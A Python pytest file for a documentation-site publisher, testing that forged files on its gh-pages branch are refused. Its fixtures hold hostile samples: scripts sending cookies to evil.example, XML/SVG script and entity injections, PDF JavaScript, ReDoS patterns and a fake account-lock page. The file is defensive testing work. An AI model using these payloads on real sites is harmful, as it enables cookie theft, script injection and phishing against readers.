"""servedpages: every page a commit of the branch serves goes through the output check once a machine, kept by its git
blob id (safety hunt 50), on a temporary project's repository."""
from __future__ import annotations

import gzip
import io
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

from helpers import git as git_cmd, policy_in_process, stored
from policy_repo import Project, copy_of, made_once, new_project, publish_first, set_digest
from policysite import (
    assets,
    compact,
    findingcache,
    git,
    manifest as mf,
    messages,
    passcache,
    safety,
    servedpages,
    sitedescriptions,
    stylesheet,
)
from policysite.project import opened

pytestmark = pytest.mark.usefixtures("no_identity", "commands_in_process")  # no test here is about the process


@pytest.fixture(scope="module")
def first_published(tmp_path_factory) -> Project:
    """2021-02-17 committed and published by `policy publish`: made once for the run, each test that goes on from
    there working on its own copy (`copy_of`)."""
    return made_once(tmp_path_factory, publish_first)

PAGE = ("<!doctype html><html lang=\"fr\"><head><meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\" "
        "content=\"default-src 'none'\"><title>Historique</title></head><body><p><a href=\"../\">Version {n}</a></p>{extra}"
        "</body></html>")


def test_a_page_is_read_once_a_machine_and_a_cold_one_says_it_reads_many(tmp_path, monkeypatch, capsys):
    """A cold machine reads every page of the tree through the output check and says so when they are many; a page
    with a script is named whatever else the tree holds; the next command (a new process: the kept pages on disk)
    reads none of the pages that passed, and says nothing, and reads the refused one again."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    count = servedpages.MANY + 1
    listing = {f"fr/history/p{n}.html": ("100644", stored(project.root, PAGE.format(n=n, extra="")))
               for n in range(count)}
    listing["fr/history/bad.html"] = ("100644", stored(project.root, PAGE.format(n="x", extra="<script>x()</script>")))
    listing["fr/history/p0-copy.html"] = listing["fr/history/p0.html"]  # one blob, read once
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
        assert len(found) == 1 and found[0].startswith("fr/history/bad.html: refused by the output check: <script>"), \
            found
        assert f"{count + 1} pages of the branch through the output check" in capsys.readouterr().err
        read: list[str] = []
        reader = git.read_objects

        def counted(repo, shas):
            read.extend(shas)
            return reader(repo, shas)

        monkeypatch.setattr(git, "read_objects", counted)
        monkeypatch.setattr(servedpages, "_PASSED", set())
        assert servedpages.unsafe(site, listing) == found
        assert read == [listing["fr/history/bad.html"][1]]
        assert capsys.readouterr().err == ""


@pytest.mark.parametrize(("ending", "forged"), [
    ("index.html", PAGE.format(n="x", extra="<script>x()</script>")),
    ("evil.xml", '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    ("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>'),
    ("search/search_index.json", json.dumps({"docs": [{"location": "https://evil.example/", "title": "x",
                                                       "text": "x"}]}))])
def test_a_refused_file_is_named_at_every_path_that_holds_its_bytes(tmp_path, ending, forged):
    """Round 6's note (safety7): the same bytes at several paths of the branch (a forged page copied into every
    version's folder) were read once and the refusal named the first path only: a maintainer reverting that one file
    published the next command's refusal of the second, and so on. Every path holding them is named now."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    blob = stored(project.root, forged)
    paths = [f"en/{day}/{ending}" for day in ("2021-02-17", "2022-03-01", "latest")]
    listing = {path: ("100644", blob) for path in paths}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
    assert [line.partition(": ")[0] for line in found] == paths, found
    refusal = str(messages.Said("publish.unsafe-served", files=found[:1], more=len(found) - 1, branch="gh-pages"))
    assert refusal.startswith(f"{found[0]} (and 2 more): on gh-pages"), refusal


def test_a_page_in_utf_16_with_its_byte_order_mark_is_read_as_a_browser_reads_it(tmp_path):
    """A page on the branch written in UTF-16 with its mark, read as UTF-8, showed the output check no element (a NUL
    between each letter) and passed; Chromium decodes it by its mark whatever charset GitHub Pages sends, and ran its
    script. Read as UTF-16 now, its script is named."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    forged = PAGE.format(n="x", extra="<script>fetch('https://evil.example/?'+document.cookie)</script>")
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=project.root, check=True, capture_output=True,
                          input=b"\xff\xfe" + forged.encode("utf-16-le")).stdout.decode().strip()
    with opened(project.root) as site:
        found = servedpages.unsafe(site, {"fr/history/index.html": ("100644", blob)})
    assert len(found) == 1 and found[0].startswith("fr/history/index.html: refused by the output check: <script>"), \
        found


@pytest.mark.parametrize("xml", [
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,"?><urlset/>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><urlset>&a;</urlset>'])
def test_an_xml_file_a_browser_runs_as_a_page_is_refused_and_a_sitemap_is_not(tmp_path, xml):
    """Safety hunt 50, finding 5: an .xml file in a version's folder holding XHTML or SVG elements (a browser opening it
    runs their scripts and handlers, and no Content-Security-Policy reaches an XML document), a stylesheet instruction
    or a DOCTYPE was served (only .html and .svg were read): named now; a sitemap as MkDocs writes it passes and is
    kept, so the next command does not read it again."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    with opened(project.root) as site:
        sitemap = ('<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/'
                   f'0.9"><url><loc>{site.settings.public_url}en/2021-02-17/</loc></url></urlset>\n')
        listing = {"en/2021-02-17/sitemap.xml": ("100644", stored(project.root, sitemap)),
                   "en/2021-02-17/evil.xml": ("100644", stored(project.root, xml))}
        found = servedpages.unsafe(site, listing)
        assert len(found) == 1 and found[0].startswith("en/2021-02-17/evil.xml: refused: an XML file holding “"), found
        assert servedpages.unsafe(site, {"en/2021-02-17/sitemap.xml": listing["en/2021-02-17/sitemap.xml"]}) == []
        kept = servedpages.passcache.blobs_passed(site.passed, text=False, scripts=servedpages.xml_rules(site))
        assert kept == {listing["en/2021-02-17/sitemap.xml"][1]}


def _on_branch(project, tmp_path, edit, subject: str) -> None:
    """A commit of gh-pages by hand, `edit` changing a checkout of it, under a subject of its choosing."""
    work = tmp_path / "pages"
    git_cmd(project.root, "worktree", "add", "-q", str(work), "gh-pages")
    edit(work)
    git_cmd(work, "add", "-A")
    git_cmd(work, "commit", "-q", "-m", subject)
    git_cmd(project.root, "worktree", "remove", "--force", str(work))


def test_a_script_a_forged_shared_folder_serves_is_refused_by_publish_and_export(first_published, tmp_path):
    """Safety hunt 50, part 2: a hand commit named as a rebuild added a shared theme folder holding a script, with a
    list whose digest names the folder, and a link to it in an older version's page with that page's digest in its
    manifest; one named as publishing's then edited the history page. The output check allows any local script and the
    Content-Security-Policy any of the site's origin: `policy publish` and `policy export` exited 0 and served it. Now
    both refuse, naming the folder no version links, and leave the branch and the folder as they were."""
    project = copy_of(first_published, tmp_path / "project")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    project.publish()
    evil = b"fetch('https://evil.example/?'+document.cookie);\n"
    files = {"javascripts/evil.js": mf.sha256(evil)}
    digest = assets.files_digest(files)

    def forge(work):
        (work / assets.FOLDER / digest / "javascripts").mkdir(parents=True)
        (work / assets.FOLDER / digest / "javascripts" / "evil.js").write_bytes(evil)
        (work / assets.manifest_path(digest)).write_bytes(assets.manifest_bytes(files))
        path = work / "en" / "2021-02-17" / "index.html"
        page = path.read_text(encoding="utf-8").replace(
            "</head>", f'<script src="../../{assets.FOLDER}/{digest}/javascripts/evil.js"></script></head>', 1)
        path.write_text(page, encoding="utf-8")
        set_digest(work, "2021-02-17", "en", "index.html", page.encode("utf-8"))

    def touch(work):
        history = work / "fr" / "history" / "index.html"
        history.write_bytes(history.read_bytes() + b"\n")

    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
    _on_branch(project, tmp_path, touch, "Update the history, compare and feed pages of 2 dated versions")
    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
    before = project.branch()
    for args in (("publish",), ("export", "--site-dir", str(tmp_path / "public"))):
        done = project.run(*args)
        assert done.returncode == 1, (args, done.stderr)
        # (named first as a shared folder no version links, since safety4 of session 33; `servedpages` named the
        # script before)
        assert f"{assets.FOLDER}/{digest}/: no version links it" in done.stderr, done.stderr
        assert "Traceback" not in done.stderr
    assert project.branch() == before
    assert not (tmp_path / "public").exists()


def test_a_shared_theme_folder_no_version_links_is_not_carried_by_publish(first_published, tmp_path):
    """Safety4, session 33: a hand commit added a shared theme folder, with the list its name is the digest of, holding
    an HTML page of its own words under the site's own Content-Security-Policy (no script, handler or outside link:
    the output check passed it); no version links the folder, and `policy publish` carried it onto the site's origin,
    exit 0 (only `policy verify` named it). Refused now, naming the folder, the branch left as it was."""
    project = copy_of(first_published, tmp_path / "project")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"',
                       project.show("en/2021-02-17/index.html")).group(1)
    page = ('<!doctype html><html lang="en"><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
            f'content="{policy}"><title>Account</title></head><body><div style="position:fixed;inset:0">Your account '
            "is locked: call +1 555 0100</div></body></html>").encode()
    files = {"images/notice.html": mf.sha256(page)}
    digest = assets.files_digest(files)

    def forge(work):
        (work / assets.FOLDER / digest / "images").mkdir(parents=True)
        (work / assets.FOLDER / digest / "images" / "notice.html").write_bytes(page)
        (work / assets.manifest_path(digest)).write_bytes(assets.manifest_bytes(files))

    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    before = project.branch()
    done = project.run("publish")
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert f"error: {assets.FOLDER}/{digest}/: no version links it" in done.stderr, done.stderr
    assert project.branch() == before


def test_a_script_is_the_themes_when_the_installed_theme_or_the_source_branchs_overrides_held_it(tmp_path):
    """What vouches for a served script: a file of the installed theme as it is, or as a build compacts it; a script
    the source branch's `overrides/` held in an older commit (an earlier generator's copy, an older version built with
    it), compacted as a build writes it. Anything else is named; what passed is kept by blob id."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    own = project.root / "overrides" / "assets" / "javascripts" / "policy.js"
    current = own.read_text(encoding="utf-8")
    older = current + "/* an earlier generator's copy */\nvar earlier = 1;\n"
    own.write_text(older, encoding="utf-8")
    project.commit_all("overrides: an earlier generator's policy.js")
    own.write_text(current, encoding="utf-8")
    project.commit_all("overrides: this generator's policy.js (policy upgrade)")
    import material

    bundle = next((Path(material.__file__).parent / "templates" / "assets" / "javascripts").glob("bundle.*.min.js"))
    listing = {"assets/a/javascripts/bundle.min.js": ("100644", stored(project.root, bundle.read_text("utf-8"))),
               "assets/a/javascripts/policy.js": ("100644", stored(project.root, compact.script(older))),
               "assets/b/javascripts/policy.js": ("100644", stored(project.root, older + "\nevil();\n"))}
    with opened(project.root) as site:
        assert servedpages.unsafe(site, listing) == [
            "assets/b/javascripts/policy.js: refused: a script or stylesheet that neither the installed theme nor the "
            "source branch's overrides/ hold (a page may load any file of the site's origin); the branch alone cannot "
            "vouch for one: remove it, or rebuild every version (`policy history --rebuild`)"]
        kept = servedpages.passcache.blobs_passed(site.passed, text=False, scripts=servedpages._SCRIPT_RULES)
        assert kept == {listing["assets/a/javascripts/bundle.min.js"][1], listing["assets/a/javascripts/policy.js"][1]}


def _theme_stylesheets() -> tuple[Path, str, str, str]:
    """The installed theme's main stylesheet, a build's trimming of it, that trimming with a rule of its own added, and
    with a declaration changed."""
    import material

    main = next((Path(material.__file__).parent / "templates" / "assets" / "stylesheets").glob("main.*.min.css"))
    trimmed = stylesheet.trim(main.read_text(encoding="utf-8"),
                              stylesheet.names_of(['<div class="md-typeset md-content"><p>x</p></div>'], []))
    changed = trimmed.replace("display:", "display:none;x:", 1)
    assert changed != trimmed
    return main, trimmed, trimmed + ".md-typeset p{display:none}\n", changed


def test_a_stylesheet_is_the_themes_when_it_is_a_trimming_of_one_of_its_name(tmp_path):
    """A stylesheet hides and shows what it likes: one served is the theme's when it is what a build's trimming makes
    of the installed theme's or the site's stylesheet of its name (rules and selectors dropped, nothing added or
    changed); one with a rule of its own, or a rule's declaration changed, is named."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    main, trimmed, hiding, changed = _theme_stylesheets()
    own = (project.root / "overrides" / "assets" / "stylesheets" / "policy.css").read_text(encoding="utf-8")
    listing = {f"assets/a/stylesheets/{main.name}": ("100644", stored(project.root, trimmed)),
               "assets/a/stylesheets/policy.css": ("100644", stored(project.root, compact.style(own))),
               f"assets/b/stylesheets/{main.name}": ("100644", stored(project.root, hiding)),
               f"assets/c/stylesheets/{main.name}": ("100644", stored(project.root, changed)),
               "assets/d/stylesheets/policy.css": ("100644", stored(project.root, hiding))}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
    assert [line.partition(":")[0] for line in found] == [
        f"assets/b/stylesheets/{main.name}", f"assets/c/stylesheets/{main.name}", "assets/d/stylesheets/policy.css"]
    assert all("refused: a script or stylesheet that neither" in line for line in found)


def test_a_stylesheet_found_a_trimming_is_not_read_again_by_the_process_in_another_repository(tmp_path, monkeypatch):
    """Reading Material's stylesheets to vouch for a trimming costs some 0.4 s of CPU, and a machine's kept blobs are
    each repository's own: a process publishing into several repositories (the suite's workers, the commands they
    fork) read them again for each. A trimming found is now kept for the process by the two blobs: another repository
    serving the same bytes reads no stylesheet, and one hiding a rule or changing one is read, and named, as before."""
    main, trimmed, hiding, changed = _theme_stylesheets()
    read: list[str] = []
    reader = stylesheet.trimmed_from

    def counted(css: str, source: str) -> bool:
        read.append(css)
        return reader(css, source)

    monkeypatch.setattr(stylesheet, "trimmed_from", counted)
    monkeypatch.setattr(servedpages, "_TRIMMINGS", set(), raising=False)  # none found yet
    found = {}
    for name in ("one", "two"):
        project = new_project(tmp_path / name)
        project.commit("2021-02-17")
        own = compact.style((project.root / "overrides" / "assets" / "stylesheets" / "policy.css").read_text(
            encoding="utf-8"))
        listing = {f"assets/a/stylesheets/{main.name}": ("100644", stored(project.root, trimmed)),
                   "assets/a/stylesheets/policy.css": ("100644", stored(project.root, own)),
                   f"assets/b/stylesheets/{main.name}": ("100644", stored(project.root, hiding)),
                   f"assets/c/stylesheets/{main.name}": ("100644", stored(project.root, changed))}
        read.clear()
        with opened(project.root) as site:
            found[name] = servedpages.unsafe(site, listing)
        assert {hiding, changed} <= set(read), name
        assert (trimmed in read) is (name == "one"), name
    assert found["one"] == found["two"] and [line.partition(":")[0] for line in found["two"]] == [
        f"assets/b/stylesheets/{main.name}", f"assets/c/stylesheets/{main.name}"]


def test_a_script_the_theme_folder_mkdocs_yml_names_held_is_the_sites_whatever_the_folders_name(tmp_path):
    """A site whose mkdocs.yml names another theme folder than `overrides/` (`theme.custom_dir: theme`), which never
    had an `overrides/`: the scripts that folder held vouch for what its builds served; read from `overrides/` alone,
    the generator's own policy.js, as a build compacts it, was refused and nothing could be published."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    git_cmd(project.root, "mv", "overrides", "theme")
    config = project.root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("custom_dir: overrides", "custom_dir: theme"),
                      encoding="utf-8")
    git_cmd(project.root, "checkout", "-q", "--orphan", "site")  # a history in which no overrides/ ever was
    git_cmd(project.root, "add", "-A")
    git_cmd(project.root, "commit", "-q", "-m", "A site whose theme folder is theme/")
    own = (project.root / "theme" / "assets" / "javascripts" / "policy.js").read_text(encoding="utf-8")
    listing = {"assets/a/javascripts/policy.js": ("100644", stored(project.root, compact.script(own))),
               "assets/b/javascripts/policy.js": ("100644", stored(project.root, own + "\nevil();\n"))}
    with opened(project.root) as site:
        assert [line.partition(":")[0] for line in servedpages.unsafe(site, listing)] == [
            "assets/b/javascripts/policy.js"]


def _in_manifest(work, files: dict[str, bytes]) -> None:
    """Record `files` (English, 2021-02-17's folder) in that version's manifest of a checkout of the branch."""
    kept = work / "manifest" / "2021-02-17.json"
    record = json.loads(kept.read_text(encoding="utf-8"))
    record["languages"]["en"]["files"].update({name: mf.sha256(data) for name, data in files.items()})
    kept.write_bytes(mf.VersionManifest.loads(json.dumps(record)).dumps())


def _publish_refused(project, said: str) -> None:
    """Publishing the next version fails saying `said`, without a traceback, the branch as it was."""
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    before = project.branch()
    done = project.run("publish")
    assert done.returncode == 1, done.stderr
    assert said in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    assert project.branch() == before


@pytest.mark.parametrize(("tag", "said"), [
    ('<link rel="stylesheet" href="terms.txt">', "<link rel=“stylesheet” href=“terms.txt”> applies a file"),
    ('<link rel="modulepreload" href="terms.txt">', "<link rel=“modulepreload” href=“terms.txt”> has the page run"),
    ("search", "the theme's configuration starts its search from “terms.txt”")])
def test_a_page_naming_a_text_of_the_site_as_its_stylesheet_script_or_worker_is_not_served(first_published, tmp_path,
                                                                                          monkeypatch, tag, said):
    """Session 30's note: a hand commit named as a rebuild adds a text file to a version's folder (with its digest and
    the page's in the manifest) and has the page apply it as a stylesheet, preload it as a module or start Material's
    search worker from it; servedpages vouches for .js and .css files only and the output check allowed any local
    stylesheet, so `policy publish` served what a host that sniffs runs or applies. Refused now, even where that page
    was kept as passed by an older checker (the kept pages' key holds the checker's code), the branch as it was."""
    project = copy_of(first_published, tmp_path / "project")
    text = b"body{display:none}\n"

    def forge(work):
        folder = work / "en" / "2021-02-17"
        (folder / "terms.txt").write_bytes(text)
        page = (folder / "index.html").read_text(encoding="utf-8")
        if tag == "search":
            forged = re.sub(r'"search": "[^"]*"', '"search": "terms.txt"', page, count=1)
        else:
            forged = page.replace("</head>", f"{tag}</head>", 1)
        assert forged != page
        (folder / "index.html").write_text(forged, encoding="utf-8")
        _in_manifest(work, {"index.html": forged.encode("utf-8"), "terms.txt": text})

    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
    with opened(project.root) as site:
        listing = git.list_files(site.repo, "gh-pages")
        page = {"en/2021-02-17/index.html": listing["en/2021-02-17/index.html"]}
        scripts = tuple(pattern.pattern for pattern in safety.theme_scripts(safety.installed_theme_dirs(site.theme)))
        # (the kept pages' key holds the site's descriptions too: safety83)
        scripts += safety.description_rules(
            sitedescriptions.described(site, sitedescriptions.listed_commits(site, listing)))
        with monkeypatch.context() as older:
            older.setattr(findingcache, "checks_digest", lambda: "an older checker")
            passcache.keep_blobs(site.passed, [page["en/2021-02-17/index.html"][1]], text=True, scripts=scripts)
            assert servedpages.unsafe(site, page) == []
        assert [line.partition(": ")[0] for line in servedpages.unsafe(site, listing)] == ["en/2021-02-17/index.html"]
    _publish_refused(project, f"error: en/2021-02-17/index.html: refused by the output check: {said}")


FORGED_INDEX = json.dumps({"config": {"lang": ["en"], "separator": "[\\s\\-]+", "pipeline": ["stopWordFilter"]},
                           "docs": [{"location": "", "title": "Test privacy policy",
                                     "text": 'We sell your data. <a href="https://evil.example/">Object here</a>'}]})


@pytest.mark.parametrize(("path", "forged"), [
    ("en/2021-02-17/search/search_index.json", FORGED_INDEX),
    ("en/2021-02-17/search/search_index.json",
     json.dumps({"docs": [{"location": "javascript:alert(1)", "title": "1. Data", "text": "<p>Kept.</p>"}]})),
    ("en/2021-02-17/x/versions.json", json.dumps([{"version": "2021-02-17", "title": '<img src="x" alt="17 February 2021">',
                                   "aliases": []}])),
    ("en/2021-02-17/x/versions-recent.json", json.dumps([{"version": "2021-02-17", "title": "17 February 2021",
                                             "aliases": ['<a href="/en/2021-02-17/">latest</a>']}]))])
def test_a_search_index_or_list_of_versions_the_theme_shows_as_markup_is_not_served(first_published, tmp_path, path,
                                                                                    forged):
    """Material's search uses a version's index as it is when it holds entries, and writes their titles and texts into
    the results as HTML (tests/e2e/test_privacy.py shows the forged index's link in the results); its version selector
    writes the titles and aliases of ../versions.json the same way (a page a folder deeper, `base: "."`, reads one
    in its version's folder). A hand commit named as a rebuild putting such an index or list into a version's folder,
    its digest in the manifest, was served by `policy publish`: they are trusted through the manifest. Refused now, naming the file, the branch as it was; an index as an older build wrote it (entries holding
    the search plugin's tags) and the lists publishing writes pass, kept by blob id."""
    project = copy_of(first_published, tmp_path / "project")
    older = json.dumps({"config": {"lang": ["en"]}, "docs": [
        {"location": "#s1", "title": "1. Document version", "text": "<p>This <code>document</code> is dated.</p>"}]})
    with opened(project.root) as site:
        listing = git.list_files(site.repo, "gh-pages")
        listing["en/2021-02-17/search/search_index.json"] = ("100644", stored(project.root, older))
        assert servedpages.unsafe(site, listing) == []
        lists = {blob for name, (_mode, blob) in listing.items() if name.endswith(servedpages.VERSION_LISTS)}
        kept = passcache.blobs_passed(site.passed, text=False, scripts=servedpages._JSON_RULES)
        assert len(lists) == 4 and {*lists, listing["en/2021-02-17/search/search_index.json"][1]} <= kept

    def forge(work):
        (work / path).parent.mkdir(exist_ok=True)
        (work / path).write_text(forged, encoding="utf-8")
        _in_manifest(work, {path.removeprefix("en/2021-02-17/"): forged.encode("utf-8")})

    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
    _publish_refused(project, f"{path}: refused: the theme's scripts would show “")


def test_a_compressed_sitemap_holding_what_a_browser_runs_is_refused(tmp_path):
    """Safety hunt 51: MkDocs writes sitemap.xml.gz beside sitemap.xml; a hand commit named as a rebuild gave a
    version's one an XHTML script (its digest in the manifest) and `policy publish` carried it (exit 0): the check read
    .xml files only. Its XML is read now as the uncompressed sitemap's; MkDocs' own passes."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    with opened(project.root) as site:
        public = site.settings.public_url.encode()
    sitemap = (b'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
               b"<url><loc>" + public + b"en/2021-02-17/</loc></url></urlset>\n")
    evil = b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'

    listing = {"en/2021-02-17/sitemap.xml.gz": ("100644", stored(project.root, gzip.compress(sitemap))),
               "fr/2021-02-17/sitemap.xml.gz": ("100644", stored(project.root, gzip.compress(evil)))}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
    assert [line.partition(": ")[0] for line in found] == ["fr/2021-02-17/sitemap.xml.gz"], found

def test_what_publish_and_export_refuse_on_a_branch_edited_by_hand_is_said_in_the_site_s_language(
        first_published, tmp_path):
    """Words 31: on a French site, export's refusal named the files a hand commit added to the branch with English
    reasons inside its French sentence ('refused: an XML file holding …', 'refused: a script or stylesheet …',
    'changed since …, the newest of publishing's commits'), and publish's refusal of the same files was English whole
    ('on the branch, and written by no publication'); each reason is said in the site's language now, English as
    before. Export names each file once, by its most telling reason (tidy1)."""
    project = copy_of(first_published, tmp_path / "project")

    def add(work):
        (work / "fr" / "2021-02-17" / "evil.xml").write_text('<?xml version="1.0"?><!DOCTYPE x><x/>', encoding="utf-8")
        (work / "fr" / "evil.js").write_text("evil()\n", encoding="utf-8")
        (work / "fr" / "notes.md").write_text("notes\n", encoding="utf-8")

    _on_branch(project, tmp_path, add, "Edit by hand")
    project.commit("2022-01-01", fr="Texte deux.", en="Text two.")
    before = project.branch()
    french = {key: value for key, value in os.environ.items() if key != messages.ENVIRONMENT}
    said = {}
    for lang, env in (("fr", french), ("en", {**french, messages.ENVIRONMENT: "en"})):
        for command in (["publish"], ["export", "--site-dir", str(tmp_path / "public")]):
            done = policy_in_process(["--root", str(project.root), *command], env=env)
            assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
            said[lang, command[0]] = done.stderr
    # publish first refuses the files added beside the versions, naming the commit (histories10: refuse.pages-by-hand)
    assert said["fr", "publish"].startswith(
        "error: fr/evil.js, fr/notes.md\u00a0: sur gh-pages, à côté des versions, ajoutés par le commit "), said["fr", "publish"]
    assert "«\u00a0Edit by hand\u00a0», qui n'est pas une publication" in said["fr", "publish"]
    export = said["fr", "export"]
    assert "fr/notes.md\u00a0: modifié depuis " in export and "le plus récent des commits de la publication" in export
    assert "fr/2021-02-17/evil.xml\u00a0: refusé\u00a0: un fichier XML contenant «\u00a0<!DOCTYPE\u00a0», qu'un navigateur" in export
    assert "fr/evil.js\u00a0: refusé\u00a0: un script ou une feuille de style que ni le thème installé" in export
    assert "\u00a0: sur gh-pages tel qu'aucune publication ne l'a écrit" in export, export
    for english in ("refused", "changed since", "written by", "the branch"):
        assert english not in said["fr", "publish"] + export, english
    assert said["en", "publish"].startswith(
        "error: fr/evil.js, fr/notes.md: on gh-pages, beside the versions, added by commit "), said["en", "publish"]
    assert "fr/2021-02-17/evil.xml: refused: an XML file holding “<!DOCTYPE”" in said["en", "export"]
    assert "fr/evil.js: refused: a script or stylesheet that neither" in said["en", "export"]
    assert "fr/notes.md: changed since " in said["en", "export"], said["en", "export"]
    # each file once, by what is wrong with it (tidy1: it was also said "changed since" publishing's commit)
    assert said["en", "export"].count("fr/evil.js") == 1, said["en", "export"]
    assert project.branch() == before
    assert not (tmp_path / "public").exists()


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{}</svg>'


@pytest.mark.parametrize(("page", "xml"), [
    ("en/2021-02-17/logo.svg", '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x "<script xmlns=\'http://www.w3.org/'
                               '2000/svg\'>alert(1)</script>">]>\n' + _SVG.format("&x;")),
    ("en/2021-02-17/logo.svg", _SVG.format('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')),
    ("en/2021-02-17/logo.svg", _SVG.format('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')),
    ("en/2021-02-17/logo.svg", _SVG.format('<h:script xmlns:h="http&#58;//www.w3.org/1999/xhtml">alert(1)</h:script>')),
    ("en/2021-02-17/logo.svg", '<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>' + _SVG.format("")),
    ("en/2021-02-17/page.xhtml", '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY x "<h:script xmlns:h=\'http://www.w3.'
                                 'org/1999/xhtml\'>alert(1)</h:script>">]>\n<x>&x;</x>')])
def test_an_svg_or_xhtml_page_read_as_xml_holding_what_the_html_parser_does_not_read_is_not_served(
        first_published, tmp_path, page, xml):
    """Session 31's note on served SVG: a browser opens an .svg (and an .xhtml) as XML, and the output check read it
    with an HTML parser: an entity a DTD declares as a script (Chromium ran it), a script in a prefix's namespace
    (`<h:script>`, `<s:script>`, the namespace written with a character reference), a stylesheet instruction loading from
    another host, all passed, and a hand commit named as a rebuild putting one into a version's folder (its digest in
    the manifest) was served by `policy publish`. Each is refused now, as the configuration rules refuse such an image
    of the project's own, the branch as it was; the site's own favicon.svg passes and is kept by blob id."""
    project = copy_of(first_published, tmp_path / "project")
    with opened(project.root) as site:
        listing = git.list_files(site.repo, "gh-pages")
        assert servedpages.unsafe(site, listing) == []
        kept = passcache.blobs_passed(site.passed, text=False, scripts=servedpages._XML_PAGE_RULES)
        assert {blob for name, (_mode, blob) in listing.items() if name.endswith(".svg")} <= kept != set()

    def forge(work):
        (work / page).write_text(xml, encoding="utf-8")
        _in_manifest(work, {page.removeprefix("en/2021-02-17/"): xml.encode("utf-8")})

    _on_branch(project, tmp_path, forge, "Rebuild 2021-02-17 (en, fr) from 0123456789ab")
    _publish_refused(project, f"error: {page}: refused: a browser opens this file as XML, where it reads what the "
                              "output check's HTML parser does not (it " if page.endswith(".svg") else
                     f"error: {page}: refused: an XML file holding “<!DOCTYPE”")  # (as any XML file: safety6)


@pytest.mark.parametrize("separator", ["(a+)+$", "[\\s\\-]+|(x+x+)+y", "[\\s\\-]*(?:a|aa)+$", ""])
def test_a_search_index_whose_separator_is_a_pattern_of_its_own_is_not_served(tmp_path, separator):
    """Material's highlighter builds a RegExp of a version's index's separator in the page of every reader who searches
    (`(a+)+$` hangs it on a long word), which is why the configuration rules refuse a `separator` in mkdocs.yml; a
    hand commit named as a rebuild writing one into a version's index, its digest in the manifest, was served. Named
    now; what Material's search writes for each language (one class of characters, repeated) passes."""
    project = new_project(tmp_path / "project")
    project.commit("2021-02-17")
    index = {"config": {"lang": ["en"], "separator": "[\\s\\-]+", "pipeline": ["stopWordFilter"]}, "docs": []}
    japanese = {**index, "config": {**index["config"], "separator": "[\\s\\u200b\\u3000\\-、。，．？！；]+"}}
    forged = {**index, "config": {**index["config"], "separator": separator}}
    listing = {f"{lang}/2021-02-17/search/search_index.json": ("100644", stored(project.root, json.dumps(value)))
               for lang, value in (("en", index), ("ja", japanese), ("fr", forged))}
    with opened(project.root) as site:
        found = servedpages.unsafe(site, listing)
    assert found == [f"fr/2021-02-17/search/search_index.json: refused: the search index's separator "
                     f"“{separator or '…'}” is a pattern the theme runs in the page of every reader who searches; "
                     "Material's search writes one class of characters, repeated (`[\\s\\-]+`)"], found


def _forged_pdf(data: bytes, forge) -> bytes:
    """A printed PDF with what `forge(pdf)` adds, saved with its objects packed in object streams, as publishing's are."""
    import io

    import pikepdf

    with pikepdf.open(io.BytesIO(data)) as pdf:
        forge(pdf)
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _script(pdf):
    import pikepdf

    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                JS=pikepdf.String("app.launchURL('https://evil.example/', true);")))


def _open_action(pdf):
    pdf.Root.OpenAction = _script(pdf)


def _named_script(pdf):
    import pikepdf

    pdf.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), _script(pdf)]))


